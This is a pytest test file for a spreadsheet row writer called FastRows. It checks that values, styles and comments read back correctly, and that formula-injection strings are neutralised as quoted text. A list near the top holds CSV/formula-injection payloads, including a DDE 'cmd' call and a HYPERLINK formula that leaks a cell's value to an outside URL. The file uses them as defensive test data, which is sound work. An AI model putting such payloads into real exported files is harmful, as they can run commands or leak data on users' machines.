"""FastRows: a worksheet's rows written as XML read back as openpyxl wrote them."""

import datetime as dt
import gc
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.comments import Comment
from openpyxl.styles import Border, Font, Side

from machiplan.interchange.xlsx_writer import EXCEL_MAX_TEXT, FastRows, Styled, style_id

ATTACKS = ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "'=1+1"]  # fmt: skip


def _book(tmp_path, rows, styles=None, *, setup=None):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    fast = FastRows(book, sheet)
    if setup:
        setup(book, sheet)
    for n, row in enumerate(rows):
        fast.append(row, styles[n] if styles else None)
    book.save(tmp_path / "b.xlsx")
    return load_workbook(tmp_path / "b.xlsx")["Data"]


def _plain(tmp_path, rows):
    """The same rows written by openpyxl's own write-only sheet."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    for row in rows:
        sheet.append(row)
    book.save(tmp_path / "plain.xlsx")
    return load_workbook(tmp_path / "plain.xlsx")["Data"]


def _cells(sheet):
    return [[(c.value, c.data_type, c.number_format) for c in row] for row in sheet.iter_rows()]


def test_values_read_back_as_openpyxl_writes_them(tmp_path):
    rows = [
        ["text", 12, 3.25, Decimal("32.4"), Decimal("7"), True, False, None, dt.date(2024, 3, 31)],
        [" leading", "trailing ", "a\nb", "a\r\nb", "<&>\"'", "全角　", -3.5, 10**17, 0.1 + 0.2],
        [None, None, "", "x"],
    ]
    assert _cells(_book(tmp_path, rows)) == _cells(_plain(tmp_path, rows))


def test_dates_with_a_date_style(tmp_path):
    def setup(book, sheet):
        proto = WriteOnlyCell(sheet)
        proto.number_format = "yyyy-mm-dd"
        ids.append(style_id(book, proto._style))

    ids: list[int] = []
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    fast = FastRows(book, sheet)
    setup(book, sheet)
    fast.append([dt.date(2024, 3, 31), dt.datetime(2024, 4, 1, 12, 0)], [ids[0], ids[0]])
    book.save(tmp_path / "b.xlsx")
    a, b = next(load_workbook(tmp_path / "b.xlsx")["Data"].iter_rows())
    assert a.value == dt.datetime(2024, 3, 31) and a.number_format == "yyyy-mm-dd"
    assert b.value == dt.datetime(2024, 4, 1, 12, 0)


def test_a_text_that_would_run_is_a_quoted_string(tmp_path):
    sheet = _book(tmp_path, [ATTACKS, ["-3.5", "a=b", "x"]])
    first, second = list(sheet.iter_rows())
    assert [c.value for c in first] == ATTACKS
    assert all(c.data_type == "s" and c.quotePrefix for c in first)
    assert [c.value for c in second][:3] == ["-3.5", "a=b", "x"]
    assert not any(c.quotePrefix for c in second[:3])


def test_a_styled_text_that_would_run_keeps_its_style_and_is_quoted(tmp_path):
    ids: list[int] = []

    def setup(book, sheet):
        proto = WriteOnlyCell(sheet)
        proto.font = Font(bold=True)
        ids.append(style_id(book, proto._style))

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    fast = FastRows(book, sheet)
    setup(book, sheet)
    fast.append(["=SUM(A1)", "plain"], [ids[0], ids[0]])
    book.save(tmp_path / "b.xlsx")
    a, b = next(load_workbook(tmp_path / "b.xlsx")["Data"].iter_rows())
    assert a.value == "=SUM(A1)" and a.data_type == "s" and a.quotePrefix and a.font.b
    assert b.font.b and not b.quotePrefix


def test_control_characters_are_left_out_and_long_texts_cut(tmp_path):
    long = "あ" * (EXCEL_MAX_TEXT + 10)
    sheet = _book(tmp_path, [["a\x00b\x0bc\x1fd\tE", long]])
    a, b = next(sheet.iter_rows())
    assert a.value == "abcd\tE"
    assert b.value == "あ" * EXCEL_MAX_TEXT


def test_openpyxl_cells_keep_style_and_comment_and_row_height(tmp_path):
    def setup(book, sheet):
        sheet.row_dimensions[2].height = 48
        sheet.freeze_panes = "A2"
        sheet.column_dimensions["A"].width = 30

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    fast = FastRows(book, sheet)
    setup(book, sheet)
    cell = WriteOnlyCell(sheet, 42)
    cell.number_format = '#,##0"人"'
    cell.border = Border(left=Side(style="thin"))
    cell.comment = Comment("R5時点", "machiplan")
    empty = WriteOnlyCell(sheet)
    empty.font = Font(bold=True)
    fast.append(["head"])
    fast.append([cell, empty, "x"])
    book.save(tmp_path / "b.xlsx")
    read = load_workbook(tmp_path / "b.xlsx")["Data"]
    a, b, c = list(read.iter_rows())[1]
    assert c.value == "x"
    assert a.value == 42 and a.number_format == '#,##0"人"' and a.border.left.style == "thin"
    assert a.comment.text == "R5時点"
    assert b.value is None and b.font.b
    assert read.row_dimensions[2].height == 48 and read.freeze_panes == "A2"
    assert read.column_dimensions["A"].width == 30


ILLEGAL = dict.fromkeys([*range(0, 9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF])
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(TEXT, st.integers(-(10**12), 10**12), st.none(), st.booleans(),
                          st.floats(allow_nan=False, allow_infinity=False)), min_size=1, max_size=8))  # fmt: skip
def test_any_row_reads_back(tmp_path_factory, row):
    tmp = tmp_path_factory.mktemp("row")
    read = next(_book(tmp, [row]).iter_rows(values_only=True), ())
    got = [*read, *[None] * (len(row) - len(read))]
    for want, have in zip(row, got, strict=True):
        if isinstance(want, str):
            assert (have or None) == (want.translate(ILLEGAL) or None)
        elif isinstance(want, float) and not isinstance(want, bool):
            assert have == float(f"{want:.16g}")
        else:
            assert have == want


def test_styled_values_keep_style_and_comment(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    fast = FastRows(book, sheet)
    proto = WriteOnlyCell(sheet)
    proto.number_format = '0.0"%"'
    proto.font = Font(bold=True)
    bold = style_id(book, proto._style)
    fast.append([Styled(32.4, bold, Comment("見込", "machiplan")), Styled(None, bold), Styled("=1+1", bold)])
    book.save(tmp_path / "b.xlsx")
    a, b, c = next(load_workbook(tmp_path / "b.xlsx")["Data"].iter_rows())
    assert (a.value, a.number_format, a.font.b, a.comment.text) == (32.4, '0.0"%"', True, "見込")
    assert b.value is None and b.font.b
    assert c.value == "=1+1" and c.data_type == "s" and c.quotePrefix and c.font.b


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # openpyxl's stream, left open
def test_rows_appended_to_the_sheet_itself_are_refused(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    FastRows(book, sheet).append(["ours"])
    sheet.append(["theirs"])
    with pytest.raises(ValueError, match="not through FastRows"):
        book.save(tmp_path / "b.xlsx")
    del book, sheet
    gc.collect()  # openpyxl's half-written stream goes here, not in another test
